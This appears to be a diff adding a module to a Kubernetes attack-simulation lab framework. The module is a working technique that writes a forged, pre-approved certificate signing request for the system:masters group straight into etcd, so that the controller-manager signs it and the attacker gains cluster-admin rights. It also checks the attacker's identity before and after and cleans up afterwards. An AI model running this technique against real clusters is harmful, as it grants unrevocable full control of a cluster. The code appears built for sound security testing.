@@ -1,0 +1,192 @@
+"""Forging a certificate request in etcd: what its techniques have in common.
+
+Whoever writes to etcd goes around everything that the apiserver checks. What is written here
+is a certificate signing request for a member of ``system:masters`` that says of itself that it
+has been approved: the apiserver would never have let it in (its admission refuses that group),
+but the controller-manager finds it, believes it, and signs it with the cluster's own authority.
+No authorizer refuses anything to ``system:masters``, and Kubernetes cannot revoke a certificate.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import secrets
+import time
+from dataclasses import dataclass
+from typing import TYPE_CHECKING, Any, Protocol
+
+from labkit import agents
+from labkit.errors import ProbeError, ProbeTimeout
+from labkit.model import Channel, Foothold, read_model
+from labkit.techniques._lib.machines.admin import create, remove
+from labkit.techniques._lib.machines.reach import Answer, request, run_from
+from labkit.techniques._lib.stores.etcd import encode
+from labkit.techniques._lib.verdict import Verdict
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab
+
+__all__ = ["KEY", "SOURCES", "Store", "forge"]
+
+USER, GROUP = "labkit-forged", "system:masters"
+KEY = f"/registry/certificatesigningrequests/{USER}"
+SOURCES = (
+    "Securing communications in Kubernetes (2016), etcd",
+    "https://kubernetes.io/docs/reference/access-authn-authz/certificate-signing-requests/",
+    "https://attack.mitre.org/techniques/T1565/001/",
+)
+#: The apiserver's own: it takes no shorter one.
+VALID_S = 600
+PATIENCE = 20.0
+REVIEW = {"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"}
+
+
+class Store(Protocol):
+    """etcd, as an attacker reaches it."""
+
+    def put(self, key: str, value: bytes) -> Answer:
+        """Write a value."""
+
+    def get(self, key: str) -> bytes:
+        """Read a value; empty where there is none."""
+
+    def delete(self, key: str) -> None:
+        """Delete a key, if it is there."""
+
+
+@dataclass(frozen=True, slots=True)
+class _Case:
+    """Who forges, and from where."""
+
+    lab: Lab
+    foothold: Foothold
+    folder: str
+
+
+def forge(
+    lab: Lab, technique: str, foothold: Foothold, store: Store, how: str, taken: str
+) -> Verdict:
+    """Write an approved certificate request into etcd, and use what comes of it.
+
+    Parameters
+    ----------
+    lab : Lab
+    technique, foothold : str
+    store : Store
+        etcd, as it is reached from there.
+    how : str
+        With what: "without a credential", say.
+    taken : str
+        Why it succeeded, where it does.
+
+    Returns
+    -------
+    Verdict
+
+    Raises
+    ------
+    ProbeTimeout
+        An answer, or the certificate, did not come in time.
+    """
+    it = _Case(lab, foothold, f"/tmp/labkit-{secrets.token_hex(4)}")  # noqa: S108 - the attacker's
+    evidence = [f"wrote to etcd, {how}: {KEY}"]
+    argv = agents.argv("make_key", it.folder, USER, GROUP)
+    try:
+        made = run_from(lab, foothold, argv)
+        if made.exit_code:
+            raise ProbeError(f"openssl exited with {made.exit_code}", evidence=[made.error])
+        answer = store.put(KEY, json.dumps(_request(made.stdout)).encode())
+        if answer.refusal:
+            tried = (f"tried to write to etcd, {how}: {KEY}",)
+            control = _control(lab)
+            return Verdict(technique, lab.mode, foothold, False, answer.refusal, tried, control)
+        run_from(lab, foothold, ["tee", f"{it.folder}/crt"], stdin=_certificate(store))
+        before, after = _who(it, with_it=False), _who(it, with_it=True)
+    finally:
+        store.delete(KEY)
+        # With its key, the certificate is gone for good.
+        run_from(lab, foothold, ["rm", "-rf", it.folder])
+    if GROUP not in after.get("groups", ()):
+        raise ProbeError(f"the apiserver takes the forged certificate for {after}")
+    evidence += [
+        "the controller-manager signed it with the cluster's authority",
+        f"to the apiserver, on its TLS port, the attacker was {before.get('username', 'nobody')}",
+        f"and is now {after['username']}, in group {GROUP}",
+    ]
+    return Verdict(technique, lab.mode, foothold, True, taken, tuple(evidence))
+
+
+def _request(csr: bytes) -> dict[str, Any]:
+    """Return the object, as the apiserver would store it."""
+    now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
+    approved = {
+        "type": "Approved",
+        "status": "True",
+        "reason": "Forged",
+        "message": "written by labkit past the apiserver",
+        "lastUpdateTime": now,
+        "lastTransitionTime": now,
+    }
+    return {
+        "apiVersion": "certificates.k8s.io/v1",
+        "kind": "CertificateSigningRequest",
+        "metadata": {
+            "name": USER,
+            "uid": f"{secrets.token_hex(4)}-0000-4000-8000-{secrets.token_hex(6)}",
+            "creationTimestamp": now,
+        },
+        "spec": {
+            "request": encode(csr),
+            "signerName": "kubernetes.io/kube-apiserver-client",
+            "expirationSeconds": VALID_S,
+            "usages": ["client auth"],
+            "username": "system:admin",
+        },
+        "status": {"conditions": [approved]},
+    }
+
+
+def _certificate(store: Store) -> bytes:
+    """Wait for the certificate, by reading the request in etcd again."""
+    deadline = time.monotonic() + PATIENCE
+    pem = rb"-----BEGIN CERTIFICATE-----[^-]+-----END CERTIFICATE-----\n"
+    while time.monotonic() < deadline:
+        if found := re.search(pem, store.get(KEY)):
+            return found[0]
+        time.sleep(0.3)
+    raise ProbeTimeout(f"nobody signed the forged request within {PATIENCE:g} s")
+
+
+def _who(it: _Case, *, with_it: bool) -> dict[str, Any]:
+    """Ask the apiserver's TLS port who one is to it, with the certificate or without."""
+    secure = _secure(it.lab)
+    url = f"https://{secure.server.split('@')[1]}:{secure.port}"
+    options = ["--cert", f"{it.folder}/crt", "--key", f"{it.folder}/key"] if with_it else []
+    path = "/apis/authentication.k8s.io/v1/selfsubjectreviews"
+    body = json.dumps(REVIEW).encode()
+    said = request(it.lab, url + path, foothold=it.foothold, body=body, options=options)
+    if said.refusal and not with_it:
+        return {}
+    try:
+        found: dict[str, Any] = json.loads(said.body)["status"]["userInfo"]
+    except (ValueError, KeyError) as error:
+        raise ProbeError(f"{url}: {said.refusal or 'no answer to who I am'}") from error
+    return found
+
+
+def _secure(lab: Lab) -> Channel:
+    found = read_model(lab.environment).channels
+    return next(
+        c for c in found if c.server.startswith("kube-apiserver@") and c.protocol == "https"
+    )
+
+
+def _control(lab: Lab) -> str:
+    """Let the apiserver write to etcd, and take it back."""
+    path, name = "/api/v1/namespaces/default/configmaps", "labkit-control"
+    try:
+        create(lab, path, {"metadata": {"name": name}})
+    finally:
+        remove(lab, f"{path}/{name}")
+    return "the apiserver writes to the same etcd: a ConfigMap was created and deleted"
